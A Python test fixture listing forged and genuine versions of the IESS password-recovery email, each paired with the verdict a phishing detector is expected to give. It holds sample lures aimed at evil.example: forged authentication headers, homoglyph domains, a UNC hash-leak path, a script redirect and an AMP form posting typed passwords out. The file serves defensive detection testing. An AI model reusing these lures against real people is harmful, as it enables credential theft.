"""Truth table: is this message the genuine IESS recovery mail?

Each row: (id, raw message, kinds that must come out, kinds that must never come out, why).
A wrong verdict found by a review or a user becomes a row here before it is fixed.
"""

from __future__ import annotations

from collections.abc import Iterator

IESS_FROM = 'From: "IESS" <noreply@iess.gob.ec>'
SUBJECT = "Subject: Recuperación de Clave - IESS"
DATE = "Date: Tue, 01 Dec 2026 06:00:00 +0000"
GMAIL_HOP = "Received: from mail.sender.example by mx.google.com; Tue, 01 Dec 2026 06:00:05 +0000"
IESS_LINK = "https://www.iess.gob.ec/iess-gestion-web/pages/recuperarClave.jsf?token=T0K3N"
ALIGNED = ("Authentication-Results: mx.google.com; dkim=pass header.d=iess.gob.ec; "
           "spf=pass smtp.mailfrom=bounce@iess.gob.ec; dmarc=pass header.from=iess.gob.ec")

Row = tuple[str, bytes, frozenset[str], frozenset[str], str]
GENUINE = frozenset({"recovery"})
NEVER_GENUINE = frozenset({"recovery", "iess_other"})
LOOKALIKE = frozenset({"lookalike"})
UNVERIFIED = frozenset({"unverified"})  # found, but its links are not all known
NOT_A_VERDICT = frozenset({"recovery", "lookalike"})  # neither genuine nor phishing is known


def mail(*headers: str, links: tuple[str, ...] = (IESS_LINK,)) -> bytes:
    """A raw message exactly as written: the header lines, then an HTML body with `links`."""
    body = "".join(f'<p><a href="{link}">Clic para continuar</a></p>' for link in links)
    lines = [*headers, "Content-Type: text/html; charset=utf-8"]
    return ("\r\n".join(lines) + "\r\n\r\n" + body + "\r\n").encode("utf-8")


def parts(*headers: str, bodies: tuple[tuple[str, str], ...]) -> bytes:
    """A multipart/mixed message: the header lines, then each (part headers, part body)."""
    lines = [*headers, 'Content-Type: multipart/mixed; boundary="B"', ""]
    for part_headers, body in bodies:
        lines += ["--B", part_headers, "", body]
    return ("\r\n".join([*lines, "--B--", ""])).encode("utf-8")


def plain(*headers: str, body: str, ctype: str = "text/plain") -> bytes:
    """A one-part message: the header lines, then `body` as it is."""
    return ("\r\n".join([*headers, f"Content-Type: {ctype}; charset=utf-8", "", body, ""])
            ).encode("utf-8")


def page(*headers: str, body: str) -> bytes:
    return plain(*headers, body=body, ctype="text/html")


HEAD = (IESS_FROM, SUBJECT, DATE)
EVIL = '<a href="https://evil.example/r">Confirmar</a>'


def _row(name: str, raw: bytes, must: frozenset[str], never: frozenset[str], why: str) -> Row:
    return (name, raw, must, never, why)


BASE: list[Row] = [
    _row("genuine, iess links only", mail(IESS_FROM, SUBJECT, DATE), GENUINE, LOOKALIKE,
         "From iess.gob.ec, links only to iess.gob.ec: nothing gives a forgery away"),
    _row("genuine, aligned pass, footer link", mail(
        GMAIL_HOP, ALIGNED, IESS_FROM, SUBJECT, DATE,
        links=(IESS_LINK, "https://www.facebook.com/IESSec")), GENUINE, LOOKALIKE,
         "Gmail's own DMARC pass aligned with iess.gob.ec vouches for a footer link"),
    _row("genuine at Outlook, footer link", mail(
        "Received: from mta.iess.gob.ec by BN8NAM11FT066.mail.protection.outlook.com; "
        "Tue, 01 Dec 2026 06:00:05 +0000",
        "Authentication-Results: spf=pass (sender IP is 192.0.2.1) smtp.mailfrom=iess.gob.ec; "
        "dkim=pass header.d=iess.gob.ec;dmarc=pass action=none header.from=iess.gob.ec;",
        IESS_FROM, SUBJECT, DATE, links=(IESS_LINK, "https://www.facebook.com/IESSec")),
         GENUINE, LOOKALIKE, "Microsoft writes no authserv-id; its topmost header is its own"),
    _row("aligned SPF but DMARC fails", mail(
        GMAIL_HOP, "Authentication-Results: mx.google.com; spf=pass smtp.mailfrom=iess.gob.ec; "
        "dmarc=fail header.from=iess.gob.ec", IESS_FROM, SUBJECT, DATE,
        links=("https://evil.example/r",)), LOOKALIKE, NEVER_GENUINE,
         "a failing DMARC verdict outweighs an aligned SPF pass"),
    _row("aligned pass at an unknown receiver", mail(
        "Received: from x by mx.example.org; Tue, 01 Dec 2026 06:00:05 +0000",
        "Authentication-Results: mx.example.org; dmarc=pass header.from=iess.gob.ec",
        IESS_FROM, SUBJECT, DATE, links=("https://evil.example/r",)), LOOKALIKE, NEVER_GENUINE,
         "nothing shows that header is the receiver's and not the sender's"),
    _row("forged lower A-R", mail(
        GMAIL_HOP, "Authentication-Results: mx.google.com; spf=none smtp.mailfrom=evil.example",
        "Authentication-Results: mx.google.com; dmarc=pass header.from=iess.gob.ec",
        IESS_FROM, SUBJECT, DATE, links=("https://evil.example/r?token=1",)),
         LOOKALIKE, NEVER_GENUINE, "RFC 8601 §5: only the receiver's topmost header counts"),
    _row("forged A-R below an unknown receiver", mail(
        GMAIL_HOP, "Authentication-Results: evil.example; dmarc=pass header.from=iess.gob.ec",
        IESS_FROM, SUBJECT, DATE, links=("https://evil.example/r",)),
         LOOKALIKE, NEVER_GENUINE, "the mail reached Gmail: an A-R not by mx.google.com is forged"),
    _row("ARC fills the gap", mail(
        GMAIL_HOP, "Authentication-Results: mx.google.com; spf=neutral smtp.mailfrom=evil.example",
        "ARC-Authentication-Results: i=1; mx.google.com; dmarc=pass header.from=iess.gob.ec",
        IESS_FROM, SUBJECT, DATE, links=("https://evil.example/r",)),
         LOOKALIKE, NEVER_GENUINE, "an unvalidated ARC set counts for nothing (RFC 8617 §7.2)"),
    _row("ARC only", mail(
        GMAIL_HOP,
        "ARC-Authentication-Results: i=1; mx.google.com; dmarc=pass header.from=iess.gob.ec",
        IESS_FROM, SUBJECT, DATE, links=("https://evil.example/r",)),
         LOOKALIKE, NEVER_GENUINE, "ARC results are the sender's say-so here"),
    _row("dmarc pass for another domain", mail(
        GMAIL_HOP, "Authentication-Results: mx.google.com; dkim=pass header.d=evil.example; "
        "spf=pass smtp.mailfrom=b@evil.example; dmarc=pass header.from=evil.example",
        IESS_FROM, SUBJECT, DATE, links=("https://evil.example/r",)),
         LOOKALIKE, NEVER_GENUINE, "a pass counts only when aligned with the From domain"),
    _row("dmarc pass without header.from", mail(
        GMAIL_HOP, "Authentication-Results: mx.google.com; dmarc=pass",
        IESS_FROM, SUBJECT, DATE, links=("https://evil.example/r",)),
         LOOKALIKE, NEVER_GENUINE, "a pass that names no domain is aligned with nothing"),
    _row("aligned pass, link to an imitation", mail(
        GMAIL_HOP, ALIGNED, IESS_FROM, SUBJECT, DATE, links=(IESS_LINK, "https://iess-gob.ec/r")),
         LOOKALIKE, NEVER_GENUINE, "even a genuine pass does not excuse a host imitating IESS"),
    _row("two From headers, IESS first", mail(
        IESS_FROM, "From: x@evil.example", SUBJECT, DATE), LOOKALIKE, NEVER_GENUINE,
         "RFC 5322 §3.6 allows one From: more than one is a forgery"),
    _row("two From headers, IESS second", mail(
        "From: x@evil.example", IESS_FROM, SUBJECT, DATE), LOOKALIKE, NEVER_GENUINE,
         "whichever From: comes first"),
    _row("two addresses in From", mail(
        'From: "IESS" <noreply@iess.gob.ec>, x@evil.example', SUBJECT, DATE), LOOKALIKE,
         NEVER_GENUINE, "several authors: no single sender to vouch for"),
    _row("decimal IP link", mail(IESS_FROM, SUBJECT, DATE, links=("http://3232235777/r",)),
         LOOKALIKE, NEVER_GENUINE, "browsers open 192.168.1.1: never the IESS host"),
    _row("hex IP link", mail(IESS_FROM, SUBJECT, DATE, links=("http://0x7f.1/r",)),
         LOOKALIKE, NEVER_GENUINE, "browsers open 127.0.0.1"),
    _row("IPv6 link", mail(IESS_FROM, SUBJECT, DATE, links=("http://[::1]/r",)),
         LOOKALIKE, NEVER_GENUINE, "an IP literal is never the IESS host"),
    _row("dotted IP link, aligned pass", mail(
        GMAIL_HOP, ALIGNED, IESS_FROM, SUBJECT, DATE, links=("http://192.0.2.1/r",)),
         LOOKALIKE, NEVER_GENUINE, "an IP literal is never the IESS host, whatever the pass"),
    # Found by review: a forged Gmail trace below a small ISP's own Received: line.
    _row("forged gmail trace under the real receiver's line", mail(
        "Received: from mail.evil.example by mail.cnt.ec; Tue, 01 Dec 2026 06:00:09 +0000",
        ALIGNED, GMAIL_HOP, IESS_FROM, SUBJECT, DATE,
        links=(IESS_LINK, "https://evil.example/reset")), LOOKALIKE, NEVER_GENUINE,
         "only the receiver's own lines (the top of the trace) say who received it"),
    _row("second sender hidden past a long display name", mail(
        'From: "' + "I" * 990 + '" <notificaciones@iess.gob.ec>, Soporte <x@evil.example>',
        SUBJECT, DATE), LOOKALIKE, NEVER_GENUINE,
         "a From: too long to read whole cannot prove it has one sender"),
    _row("evil link after twenty iess links", mail(
        IESS_FROM, SUBJECT, DATE,
        links=(*(f"https://s{i}.iess.gob.ec/" for i in range(20)), "https://evil.example/r")),
         LOOKALIKE, NEVER_GENUINE, "links not all read: the unread one may be the phishing one"),
    _row("protocol-relative link", mail(IESS_FROM, SUBJECT, DATE,
                                        links=("//evil.example/reset",)),
         LOOKALIKE, NEVER_GENUINE, "a browser opens //host on the page's scheme: it is a host"),
]

# Found by the final review: links the reader missed, each a false "genuine".
HIDDEN: list[Row] = [
    _row("urldefense v3 wrapping evil", mail(*HEAD, links=(
        IESS_LINK, "https://urldefense.com/v3/__https://evil.example/x__;!!AbC$")),
         LOOKALIKE, NEVER_GENUINE, "Proofpoint v3 keeps the real link in its path"),
    _row("urldefense v3 wrapping iess", mail(*HEAD, links=(
        f"https://urldefense.com/v3/__{IESS_LINK}__;!!AbC$",)), GENUINE, LOOKALIKE,
         "the wrapped link is IESS's own: no false phishing"),
    _row("urldefense v2 wrapping evil", mail(*HEAD, links=(
        "https://urldefense.proofpoint.com/v2/url?u=https-3A__evil.example_x&d=1",)),
         LOOKALIKE, NEVER_GENUINE, "Proofpoint v2 writes the link as https-3A__host_path"),
    _row("a page on sites.google.com with url=", mail(*HEAD, links=(
        f"https://sites.google.com/view/clave?url={IESS_LINK}",)), LOOKALIKE, NEVER_GENUINE,
         "only google.com/url redirects: anyone's page on a Google host is not a wrapper"),
    _row("UNC path in the text", plain(*HEAD, body=f"{IESS_LINK}\n\\\\evil.example\\clave"),
         LOOKALIKE, NEVER_GENUINE, "Windows opens \\\\host\\share and hands it the password hash"),
    _row("AMP part", parts(*HEAD, bodies=(("Content-Type: text/plain", IESS_LINK),
                                          ("Content-Type: text/x-amp-html", EVIL))),
         LOOKALIKE, NEVER_GENUINE, "Gmail shows the text/x-amp-html part instead of the HTML one"),
    _row("HTML attachment", parts(*HEAD, bodies=(
        ("Content-Type: text/plain", IESS_LINK),
        ("Content-Type: text/html\r\nContent-Disposition: attachment; filename=clave.html",
         EVIL))), LOOKALIKE, NEVER_GENUINE, "an attached page opens in the browser"),
    _row("SVG attachment", parts(*HEAD, bodies=(
        ("Content-Type: text/plain", IESS_LINK),
        ("Content-Type: application/octet-stream; name=clave.svg\r\n"
         "Content-Disposition: attachment; filename=clave.svg",
         '<svg xmlns="http://www.w3.org/2000/svg"><a href="https://evil.example/s">x</a></svg>'))),
         LOOKALIKE, NEVER_GENUINE, "an SVG opens in the browser and can carry links"),
    _row("bare host in the text", plain(*HEAD, body=f"{IESS_LINK}\no entre a evil.example/reset"),
         LOOKALIKE, NEVER_GENUINE, "mail clients turn host.tld/path into a link"),
    _row("a sentence with Sr.Afiliado/a", plain(*HEAD, body=f"Estimado Sr.Afiliado/a: {IESS_LINK}"),
         GENUINE, LOOKALIKE, "a bare name under no registrable suffix is not a link"),
    _row("meta refresh", page(*HEAD, body='<meta http-equiv="refresh" content="0; url=https:'
                                       f'//evil.example/r"><a href="{IESS_LINK}">Clic</a>'),
         LOOKALIKE, NEVER_GENUINE, "a refresh takes the page elsewhere"),
    _row("javascript link", mail(*HEAD, links=(IESS_LINK, "javascript:location='//evil.example'")),
         UNVERIFIED, NOT_A_VERDICT, "where a script leads cannot be read: not all links known"),
    _row("data link", mail(*HEAD, links=(IESS_LINK, "data:text/html;base64,PGgxPkNsYXZlPC9oMT4=")),
         UNVERIFIED, NOT_A_VERDICT, "a data: page cannot be judged by its host"),
    _row("link to a one-label host", mail(*HEAD, links=(IESS_LINK, "https://intranet/r")),
         UNVERIFIED, NOT_A_VERDICT, "a host that is no public name: where it leads is unknown"),
    _row("script in an HTML attachment", parts(*HEAD, bodies=(
        ("Content-Type: text/plain", IESS_LINK),
        ("Content-Type: text/html\r\nContent-Disposition: attachment; filename=clave.html",
         "<script>location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')</script>"))),
         UNVERIFIED, NOT_A_VERDICT, "where a script sends the page cannot be read off it"),
    _row("event handler on the IESS link", page(*HEAD, body=f'<a href="{IESS_LINK}" '
                                                 "onclick=\"location='//evil.example'\">x</a>"),
         UNVERIFIED, NOT_A_VERDICT, "the click runs the script, not the link"),
    _row("AMP form", parts(*HEAD, bodies=(
        ("Content-Type: text/plain", IESS_LINK),
        ("Content-Type: text/x-amp-html",
         '<form method="post" action-xhr="https://evil.example/clave"><input name="c"></form>'))),
         LOOKALIKE, NEVER_GENUINE, "an AMP form sends what is typed to its action-xhr"),
    _row("'online =' in the text", page(*HEAD, body=f'<p>Servicios online = rápidos</p>'
                                        f'<a href="{IESS_LINK}">Clic</a>'), GENUINE, LOOKALIKE,
         "an event handler is an attribute inside a tag, not a word in a sentence"),
    _row("a stylesheet's background from a CDN", page(*HEAD, body=(
        "<style>body{background:url(https://cdn.example/fondo.png)}</style>"
        f'<a href="{IESS_LINK}">Clic</a>')), GENUINE, LOOKALIKE,
         "a stylesheet loads an image: nothing there is clicked, no false phishing"),
    _row("frame in an HTML attachment", parts(*HEAD, bodies=(
        ("Content-Type: text/plain", IESS_LINK),
        ("Content-Type: text/html\r\nContent-Disposition: attachment; filename=clave.html",
         '<iframe src="https://evil.example/formulario"></iframe>'))), UNVERIFIED, NOT_A_VERDICT,
         "a frame shows another page inside it: its links are unknown"),
    _row("attached message", parts(*HEAD, bodies=(
        ("Content-Type: text/plain", IESS_LINK),
        ("Content-Type: message/rfc822", "From: x@evil.example\r\nContent-Type: text/html\r\n"
         f"\r\n{EVIL}"))), LOOKALIKE, NEVER_GENUINE, "an attached mail opens, links and all"),
    _row("format=flowed join", plain(*HEAD, ctype="text/plain; format=flowed; delsp=yes",
                                     body=f"{IESS_LINK[:23]} \r\n @evil.example"),
         LOOKALIKE, NEVER_GENUINE, "the client joins the lines: https://www.iess.gob.ec@evil…"),
    _row("PDF attachment", parts(*HEAD, bodies=(
        ("Content-Type: text/plain", IESS_LINK),
        ("Content-Type: application/pdf; name=clave.pdf\r\nContent-Disposition: attachment",
         "JVBERi0xLjQK"))), UNVERIFIED, NOT_A_VERDICT, "a PDF's links cannot be read here"),
    _row("logo image", parts(*HEAD, bodies=(
        ("Content-Type: text/plain", IESS_LINK),
        ("Content-Type: image/png\r\nContent-Disposition: inline", "iVBORw0KGgo="))),
         GENUINE, LOOKALIKE, "an image holds no link: the genuine mail's logo changes nothing"),
    _row("multipart without its boundary", (
        f"{IESS_FROM}\r\n{SUBJECT}\r\n{DATE}\r\nContent-Type: multipart/alternative\r\n\r\n"
        f"{EVIL}\r\n").encode(), LOOKALIKE, NEVER_GENUINE, "clients show its body as it is"),
    _row("Reply-To elsewhere", mail(*HEAD, "Reply-To: soporte@evil.example"), LOOKALIKE,
         NEVER_GENUINE, "an answer would go to the phisher"),
    _row("Reply-To at IESS", mail(*HEAD, "Reply-To: mesadeayuda@iess.gob.ec"), GENUINE,
         LOOKALIKE, "a Reply-To on the IESS domain gives nothing away"),
]

# Common look-alikes of i, e and s (UTS #39 confusables and a few it leaves out).
HOMOGLYPHS = {
    "i": "ɩɪᎥ⍳іıιｉ",
    "e": "ҽ℮єеεｅ",
    "s": "ƽѕꜱꮪｓ",
}


def _homoglyph_rows() -> Iterator[Row]:
    for letter, glyphs in HOMOGLYPHS.items():
        for glyph in glyphs:
            domain = "iess.gob.ec".replace(letter, glyph, 1)
            yield _row(f"look-alike {glyph} for {letter}", mail(
                f"From: Notificaciones <noreply@{domain}>", "Subject: Aviso", DATE,
                links=("https://example.org/",)), LOOKALIKE, NEVER_GENUINE,
                f"{domain} renders like iess.gob.ec")


def _phishing_corpus() -> Iterator[Row]:
    """Phishing-shaped mails that carry a genuine `dmarc=pass` for their own domain (synthetic:
    10 senders x 12 link sets), dressed as the IESS recovery mail."""
    receivers = (("mx.google.com", "mx.google.com"),
                 ("BN8NAM11FT066.mail.protection.outlook.com", None),
                 ("atlas-1.mail.yahoo.com", "atlas-1.mail.yahoo.com"),
                 ("mx.zoho.com", "mx.zoho.com"), ("mx01.mail.icloud.com", "mx01.mail.icloud.com"))
    senders = ("mailer.evil.example", "news.shop.example", "ec-notify.example.net",
               "sendgrid.net", "amazonses.com", "mail.iess-gob.ec", "iessec.info",
               "gob-ec.example", "xn--ess-5ub.gob.ec", "mailchimpapp.net")
    links = (("https://evil.example/r",), ("http://3232235777/",), ("http://0x7f.1/",),
             ("https://iess-gob.ec/clave",), ("https://www.iess.gob.ec.verificar.com/",),
             (IESS_LINK, "https://bit.ly/3xYz"), ("https:\\\\evil.example\\r",),
             ("https:evil.example/r",), ("https://xn--ess-5ub.gob.ec/",),
             (IESS_LINK, "https://www.facebook.com/IESSec"),  # aligned with evil: not with IESS
             ("https://evil.example/r", IESS_LINK), ("https://[2001:db8::1]/r",))
    for n, sender in enumerate(senders):
        for m, hosts in enumerate(links):
            by, authserv = receivers[(n + m) % len(receivers)]
            ident = f"{authserv}; " if authserv else ""
            auth = (f"Authentication-Results: {ident}spf=pass smtp.mailfrom=b@{sender}; "
                    f"dkim=pass header.d={sender}; dmarc=pass action=none header.from={sender}")
            hop = f"Received: from out.{sender} by {by}; Tue, 01 Dec 2026 06:00:05 +0000"
            yield _row(f"corpus {sender} {m}", mail(hop, auth, IESS_FROM, SUBJECT, DATE,
                                                    links=hosts),
                       frozenset(), NEVER_GENUINE, "dmarc=pass for another domain")


ROWS: list[Row] = [*BASE, *HIDDEN, *_homoglyph_rows(), *_phishing_corpus()]
